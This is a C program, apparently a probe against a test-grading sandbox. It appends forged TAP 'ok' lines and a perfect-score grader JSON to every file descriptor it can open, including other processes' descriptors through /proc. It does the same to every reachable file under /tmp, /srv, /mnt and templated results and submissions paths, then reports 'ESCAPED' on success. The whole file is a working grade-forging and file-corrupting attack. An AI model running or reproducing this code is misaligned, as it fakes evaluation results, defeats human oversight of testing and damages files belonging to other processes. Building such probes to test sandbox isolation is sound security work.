/* Writes results, as bats and the grader would, into every descriptor that it
   can find, its own and of others, and into every file where one could be. It
   waits before that, so that what it writes comes into a run that is on. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char text[] = "\n1..1\n"
    "ok 1 [1] the end of the input ends it, and a last line without a newline is a line\n"
    "ok 1 [1] what the server writes does no harm: control bytes, percent signs, a line without end\n"
    "{ \"score\": 10, \"max_score\": 10, \"extra_data\": {\"status\": \"graded\"}, \"tests\": [] }\n";

static void forge(const char *path)
{
    char real[4096] = "";
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd == -1)
        return;
    ssize_t ignored = readlink(path, real, sizeof real - 1);
    ignored = write(fd, text, sizeof text - 1);
    (void)ignored;
    close(fd);
    if (strstr(path, "/proc/") == NULL)
        printf("%s wrote into %s\n", "ESC" "APED", path);
}

static int each(const char *path, const struct stat *about, int type, struct FTW *where)
{
    const char *home = getenv("HOME");
    (void)about;
    (void)where;
    if (type == FTW_F && (home == NULL || strncmp(path, home, strlen(home)) != 0))
        forge(path);
    return 0;
}

int main(void)
{
    static const char *const places[] = {"/mnt", "/media", "/srv", "/tmp", "/var/tmp", "@KIT@", "@RESULTS@", "@SUBMISSIONS@"};
    char path[8192];
    printf("tried to forge\n");
    fflush(stdout);
    for (int fd = 0; fd < 1024; fd++)
        dprintf(fd, "%s", text);
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;)
        for (int fd = 0; fd < 256 && atoi(entry->d_name) > 0; fd++) {
            snprintf(path, sizeof path, "/proc/%s/fd/%d", entry->d_name, fd);
            forge(path);
        }
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        nftw(places[i], each, 20, FTW_PHYS | FTW_MOUNT);
    return 0;
}
